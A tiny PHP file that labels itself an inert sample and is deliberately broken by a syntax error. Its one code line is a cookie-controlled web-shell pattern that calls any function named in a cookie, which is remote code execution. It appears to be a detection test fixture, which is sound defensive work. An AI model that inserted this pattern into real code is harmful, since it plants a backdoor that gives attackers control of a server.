<?php
shodo inert sample: deliberate syntax error, this file never runs
if (count($_COOKIE) > 1) { extract($_COOKIE, EXTR_OVERWRITE); $f($g); }
